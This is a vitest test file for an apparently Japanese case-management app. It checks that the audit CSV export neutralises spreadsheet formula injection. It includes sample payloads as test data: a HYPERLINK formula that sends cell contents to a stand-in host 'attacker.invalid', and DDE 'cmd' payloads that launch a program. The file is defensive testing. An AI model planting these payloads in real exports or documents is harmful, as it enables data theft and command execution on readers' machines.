import { describe, expect, it } from 'vitest';
import { recordAudit } from '../../src/db/auditTrail.ts';
import { demoApi } from '../support/demoApi.ts';
import { excelLikeCells } from '../support/excelLike.ts';
import { createCase } from '../support/factories.ts';
import { recordOffence } from '../support/offenceCase.ts';

const api = demoApi('auditor', 'hogokansatsu');
const { auditor, hogokansatsu } = api;

/**
 * CSV injection (OWASP): the auditor's CSV carries reveal reasons typed by users. Reasons starting
 * with =, +, - and @ go through the API; text starting with a tab or a carriage return cannot
 * (typed text is trimmed), so two events carrying such a purpose are written as another path (an
 * import, an older version) would have. The export, opened with exceljs the way a spreadsheet opens
 * a CSV (tests/support/excelLike.ts), has no formula, and shows every reason as typed.
 */

const typedReasons = [
  '=HYPERLINK("http://attacker.invalid/?d="&A1,"支援方針の確認")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const storedPurposes = ['\t=1+1 タブで始まる', '\r=1+1 改行で始まる'];

describe('CSV exports neutralise formula-leading cells', () => {
  it('the audit trail CSV, opened as a spreadsheet, has no formula and shows every reason as typed', async () => {
    const { caseId, personId } = await createCase(api.server.database.db, api.dir, {
      stage: 'assessing',
      participants: [{ organization: '鹿児島保護観察所', basis: 'planItem' }],
    });
    const fact = await recordOffence(hogokansatsu, {
      personId,
      caseId,
      summary: '（試験）窃盗',
      details: '（試験）満期釈放',
    });
    for (const reason of typedReasons) {
      const revealed = await hogokansatsu.post(`/api/sensitive-facts/${fact.id}/reveal`, { reason });
      expect(revealed.status).toBe(200);
    }
    await api.server.database.db.transaction().execute(async (tx) => {
      for (const purpose of storedPurposes)
        await recordAudit(
          tx,
          { tenantId: api.dir.tenantId, actor: null, ip: null },
          { action: 'print', resourceType: 'case', resourceId: caseId, caseId, details: { purpose } },
        );
    });

    const response = await fetch(new URL('/api/audit-events/export?encoding=utf-8', api.server.url), {
      headers: { cookie: auditor.cookie ?? '' },
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toContain('text/csv');
    const rows = await excelLikeCells(Buffer.from(await response.arrayBuffer()));
    const formulas = rows.flatMap((row) => row.filter((cell) => cell.type === 'formula'));
    expect(formulas).toEqual([]);
    const purposeColumn = rows[0]?.findIndex((cell) => cell.shown === '目的・理由') ?? -1;
    expect(purposeColumn).toBeGreaterThan(0);
    const purposes = rows.slice(1).map((row) => row[purposeColumn]?.shown);
    for (const purpose of [...typedReasons, ...storedPurposes]) expect(purposes).toContain(purpose);
  });
});
